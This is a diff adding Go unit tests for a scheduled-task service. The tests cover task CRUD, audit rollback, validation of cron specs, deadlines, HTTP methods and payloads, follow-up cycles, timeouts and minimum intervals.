+		t.Fatalf("禁用 shell 后 http 任务应被接受: %v", err)
+	}
+}
+
+func TestTaskCRUDOnInMemorySQLite(t *testing.T) {
+	previous := database.DB
+	t.Cleanup(func() { database.DB = previous })
+	if err := database.InitDB(&database.MySQLConfig{Driver: database.DriverSQLite, Database: ":memory:"}); err != nil {
+		t.Fatal(err)
+	}
+	db := database.DB.Session(&gorm.Session{Logger: logger.Discard})
+	if err := model.AutoMigrate(db); err != nil {
+		t.Fatalf("SQLite 迁移失败: %v", err)
+	}
+	t.Cleanup(func() {
+		if sqlDB, err := db.DB(); err == nil {
+			sqlDB.Close()
+		}
+	})
+	sch := scheduler.NewScheduler(db, nil, &scheduler.Config{})
+	if err := sch.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(sch.Stop)
+	svc := NewTaskService(sch, db, &Config{})
+
+	task := validTask("in-memory")
+	task.Description = "存储在内存数据库中"
+	if err := svc.CreateTask(task, "test"); err != nil {
+		t.Fatal(err)
+	}
+	got, err := svc.GetTask(task.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got.Name != task.Name || got.Command != task.Command || got.Description != task.Description || got.Status != 1 {
+		t.Fatalf("读取的任务 %+v 与创建的不一致", got)
+	}
+
+	if err := svc.DeleteTask(task.ID, "test"); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := svc.GetTask(task.ID); !errors.Is(err, gorm.ErrRecordNotFound) {
+		t.Fatalf("删除后读取任务的错误为 %v，期望 ErrRecordNotFound", err)
+	}
+}
+
+func TestCreateTaskRollsBackOnAuditFailure(t *testing.T) {
+	svc, db := newTestService(t, nil, nil)
+
+	// 审计记录写入失败时，同一事务中先写入的任务应回滚
+	err := db.Callback().Create().Before("gorm:create").Register("test:fail_audit", func(tx *gorm.DB) {
+		if _, ok := tx.Statement.Model.(*model.TaskAudit); ok {
+			tx.AddError(errors.New("injected audit failure"))
+		}
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	task := validTask("rolled-back")
+	if err := svc.CreateTask(task, "test"); err == nil {
+		t.Fatal("审计记录写入失败时创建任务应返回错误")
+	}
+	var tasks int64
+	db.Model(&model.Task{}).Where("name = ?", task.Name).Count(&tasks)
+	if tasks != 0 {
+		t.Fatalf("审计记录写入失败后仍保存了 %d 个任务", tasks)
+	}
+
+	// 回滚后同名任务可以再次创建
+	db.Callback().Create().Remove("test:fail_audit")
+	if err := svc.CreateTask(validTask("rolled-back"), "test"); err != nil {
+		t.Fatalf("回滚后再次创建: %v", err)
+	}
+}
+
+func TestRecreateNameAfterDelete(t *testing.T) {
+	svc, db := newTestService(t, nil, nil)
+
+	// 多次删除后仍能使用相同名称创建，已删除的任务不占用名称
+	var ids []uint
+	for i := 0; i < 3; i++ {
+		task := validTask("recycled")
+		if err := svc.CreateTask(task, "test"); err != nil {
+			t.Fatalf("第%d次创建同名任务: %v", i+1, err)
+		}
+		ids = append(ids, task.ID)
+		if i < 2 {
+			if err := svc.DeleteTask(task.ID, "test"); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	if ids[0] == ids[1] || ids[1] == ids[2] {
+		t.Fatalf("重新创建的任务复用了ID %v", ids)
+	}
+	var total int64
+	db.Unscoped().Model(&model.Task{}).Where("name = ?", "recycled").Count(&total)
+	if total != 3 {
+		t.Fatalf("同名任务共 %d 条，期望保留2条已删除的和1条未删除的", total)
+	}
+
+	// 未删除的同名任务仍然冲突
+	assertValidationError(t, svc.CreateTask(validTask("recycled"), "test"), "任务已存在")
+}
+
+func TestValidateValidityWindow(t *testing.T) {
+	svc, _ := newTestService(t, nil, nil)
+	now := time.Now()
+	hourAgo, inHour, inDay := now.Add(-time.Hour), now.Add(time.Hour), now.Add(24*time.Hour)
+
+	task := validTask("reversed-window")
+	task.ValidFrom, task.ValidUntil = &inDay, &inHour
+	assertValidationError(t, svc.CreateTask(task, "test"), "生效时间必须早于失效时间")
+
+	task = validTask("expired-window")
+	task.ValidUntil = &hourAgo
+	assertValidationError(t, svc.CreateTask(task, "test"), "失效时间已过")
+
+	task = validTask("seasonal")
+	task.ValidFrom, task.ValidUntil = &inHour, &inDay
+	if err := svc.CreateTask(task, "test"); err != nil {
+		t.Fatalf("有效的生效时间窗口应被接受: %v", err)
+	}
+}
+
+func TestValidateOnceTaskDeadline(t *testing.T) {
+	svc, _ := newTestService(t, nil, nil)
+	runAt := time.Now().Add(time.Hour)
+	past, beforeRun, afterRun := time.Now().Add(-time.Minute), runAt.Add(-time.Minute), runAt.Add(time.Minute)
+
+	// onceTask 返回在一小时后执行的一次性任务
+	onceTask := func(name string, deadline *time.Time) *model.Task {
+		task := validTask(name)
+		task.Type, task.Spec, task.Deadline = model.TaskTypeOnce, runAt.Format(time.RFC3339), deadline
+		return task
+	}
+	assertValidationError(t, svc.CreateTask(onceTask("past-deadline", &past), "test"), "截止时间必须晚于当前时间")
+	assertValidationError(t, svc.CreateTask(onceTask("early-deadline", &beforeRun), "test"), "截止时间必须晚于执行时间")
+	if err := svc.CreateTask(onceTask("valid-deadline", &afterRun), "test"); err != nil {
+		t.Fatalf("晚于执行时间的截止时间应被接受: %v", err)
+	}
+
+	// cron 任务的截止时间不做限制
+	task := validTask("cron-deadline")
+	task.Deadline = &past
+	if err := svc.CreateTask(task, "test"); err != nil {
+		t.Fatalf("cron 任务的截止时间不应校验: %v", err)
+	}
+}
+
+func TestValidateMaxJitterOnlyForCronTasks(t *testing.T) {
+	svc, _ := newTestService(t, nil, nil)
+	task := validTask("once-jitter")
+	task.Type, task.Spec, task.MaxJitter = model.TaskTypeOnce, time.Now().Add(time.Hour).Format(time.RFC3339), 30
+	assertValidationError(t, svc.CreateTask(task, "test"), "随机延迟只适用于 cron 类型任务")
+
+	task = validTask("cron-jitter")
+	task.MaxJitter = 30
+	if err := svc.CreateTask(task, "test"); err != nil {
+		t.Fatalf("cron 任务的随机延迟应被接受: %v", err)
+	}
+}
+
+func TestCronSpecFollowsSecondsField(t *testing.T) {
+	cases := []struct {
+		withSeconds bool
+		valid       string
+		invalid     string
+	}{
+		{false, "*/5 * * * *", "0 */5 * * * *"},
+		{true, "0 */5 * * * *", "*/5 * * * *"},
+	}
+	for _, c := range cases {
+		svc, _ := newTestService(t, nil, &scheduler.Config{EnableSecondsField: c.withSeconds})
+		task := validTask(fmt.Sprintf("seconds-%v", c.withSeconds))
+		task.Spec = c.valid
+		// 校验通过的表达式都能注册到调度器
+		if err := svc.CreateTask(task, "test"); err != nil {
+			t.Fatalf("秒字段=%v: 表达式 %q 应被接受: %v", c.withSeconds, c.valid, err)
+		}
+		if task.NextRunTime.IsZero() {
+			t.Fatalf("秒字段=%v: 表达式 %q 未注册到调度器", c.withSeconds, c.valid)
+		}
+
+		task = validTask(fmt.Sprintf("seconds-%v-invalid", c.withSeconds))
+		task.Spec = c.invalid
+		assertValidationError(t, svc.CreateTask(task, "test"), "无效的 cron 表达式")
+	}
+}
+
+func TestValidateHTTPMethod(t *testing.T) {
+	svc, _ := newTestService(t, nil, nil)
+	cases := []struct {
+		method string
+		want   string
+	}{
+		{"post", http.MethodPost},
+		{" Delete ", http.MethodDelete},
+		{"", http.MethodGet},
+		{"OPTIONS", http.MethodOptions},
+	}
+	for i, c := range cases {
+		task := validTask(fmt.Sprintf("method-%d", i))
+		task.ExecType, task.Command, task.Method = model.ExecTypeHTTP, "https://93.184.216.34/hook", c.method
+		if err := svc.CreateTask(task, "test"); err != nil {
+			t.Fatalf("请求方法 %q 应被接受: %v", c.method, err)
+		}
+		saved, err := svc.GetTask(task.ID)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if saved.Method != c.want {
+			t.Errorf("请求方法 %q 保存为 %q，期望 %q", c.method, saved.Method, c.want)
+		}
+	}
+
+	for _, method := range []string{"PSOT", "CONNECT", "TRACE"} {
+		task := validTask("invalid-method")
+		task.ExecType, task.Command, task.Method = model.ExecTypeHTTP, "https://93.184.216.34/hook", method
+		assertValidationError(t, svc.CreateTask(task, "test"), "不支持的请求方法: "+method)
+	}
+}
+
+func TestValidatePayload(t *testing.T) {
+	svc, _ := newTestService(t, &Config{MaxHeadersSize: 64, MaxBodySize: 128}, nil)
+	// httpTask 返回发送 body 的 http 任务
+	httpTask := func(name, body string, headers model.Headers) *model.Task {
+		task := validTask(name)
+		task.ExecType, task.Command, task.Method = model.ExecTypeHTTP, "https://93.184.216.34/hook", http.MethodPost
+		task.Body, task.Headers = body, headers
+		return task
+	}
+	jsonHeaders := model.Headers{"Content-Type": "application/json; charset=utf-8"}
+
+	assertValidationError(t, svc.CreateTask(httpTask("huge-headers", "", model.Headers{"X-Blob": strings.Repeat("a", 100)}), "test"), "headers 总大小")
+	assertValidationError(t, svc.CreateTask(httpTask("huge-body", strings.Repeat("b", 200), nil), "test"), "body 大小 200 字节，超过上限 128 字节")
+	assertValidationError(t, svc.CreateTask(httpTask("invalid-json", `{"a":`, jsonHeaders), "test"), "body 必须是有效的 JSON")
+	assertValidationError(t, svc.CreateTask(httpTask("invalid-problem-json", `not json`, model.Headers{"content-type": "application/problem+json"}), "test"), "body 必须是有效的 JSON")
+
+	// 非 JSON 的 Content-Type 不校验 body 格式
+	if err := svc.CreateTask(httpTask("plain-text", "not json", model.Headers{"Content-Type": "text/plain"}), "test"); err != nil {
+		t.Fatalf("纯文本 body 应被接受: %v", err)
+	}
+	if err := svc.CreateTask(httpTask("valid-json", `{"a":1}`, jsonHeaders), "test"); err != nil {
+		t.Fatalf("有效的 JSON body 应被接受: %v", err)
+	}
+}
+
+func TestValidateFollowUp(t *testing.T) {
+	svc, _ := newTestService(t, nil, nil)
+	a := validTask("follow-a")
+	if err := svc.CreateTask(a, "test"); err != nil {
+		t.Fatal(err)
+	}
+	b := validTask("follow-b")
+	b.OnFailureTaskID = &a.ID
+	if err := svc.CreateTask(b, "test"); err != nil {
+		t.Fatal(err)
+	}
+
+	missing := uint(9999)
+	orphan := validTask("follow-missing")
+	orphan.OnSuccessTaskID = &missing
+	assertValidationError(t, svc.CreateTask(orphan, "test"), "后续任务不存在")
+
+	current, err := svc.GetTask(a.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	current.OnSuccessTaskID = &a.ID
+	assertValidationError(t, svc.UpdateTask(current, "test"), "后续任务不能是任务本身")
+
+	// a 成功后触发 b，b 失败后又触发 a，形成循环
+	current.OnSuccessTaskID = &b.ID
+	assertValidationError(t, svc.UpdateTask(current, "test"), "后续任务形成循环")
+}
+
+func TestMaxTimeoutSeconds(t *testing.T) {
+	svc, _ := newTestService(t, &Config{MaxTimeoutSeconds: 3600}, nil)
+	accepted := validTask("timeout-at-limit")
+	accepted.Timeout = 3600
+	if err := svc.CreateTask(accepted, "test"); err != nil {
+		t.Fatalf("不超过上限的超时时间应被接受: %v", err)
+	}
+	rejected := validTask("timeout-over-limit")
+	rejected.Timeout = 86400
+	assertValidationError(t, svc.CreateTask(rejected, "test"), "超过上限")
+
+	// 更新时同样校验上限
+	current, err := svc.GetTask(accepted.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	current.Timeout = 3601
+	assertValidationError(t, svc.UpdateTask(current, "test"), "超过上限")
+
+	// 未配置上限时不限制
+	unlimited, _ := newTestService(t, nil, nil)
+	long := validTask("timeout-unlimited")
+	long.Timeout = 86400
+	if err := unlimited.CreateTask(long, "test"); err != nil {
+		t.Fatalf("未配置上限时应接受任意正数: %v", err)
+	}
+}
+
+func TestMinCronInterval(t *testing.T) {
+	svc, _ := newTestService(t, &Config{MinCronInterval: 60}, &scheduler.Config{EnableSecondsField: true})
+	cases := []struct {
+		spec  string
+		valid bool
+	}{
+		{"* * * * * *", false},
+		{"*/30 * * * * *", false},
+		// 每分钟的第0秒和第30秒触发，最短间隔30秒
+		{"0,30 */5 * * * *", false},
+		{"0 * * * * *", true},
+		{"0 0 */2 * * *", true},
+	}
+	for i, c := range cases {
+		task := validTask(fmt.Sprintf("interval-%d", i))
+		task.Spec = c.spec
+		err := svc.CreateTask(task, "test")
+		if c.valid && err != nil {
+			t.Fatalf("%q 应被接受: %v", c.spec, err)
+		}
+		if !c.valid {
+			assertValidationError(t, err, "触发间隔不能小于")
+		}
+	}
+
+	// 未配置下限时不限制
+	unlimited, _ := newTestService(t, nil, &scheduler.Config{EnableSecondsField: true})
+	task := validTask("interval-unlimited")
+	task.Spec = "* * * * * *"
+	if err := unlimited.CreateTask(task, "test"); err != nil {
+		t.Fatalf("未配置下限时每秒触发应被接受: %v", err)
+	}
+}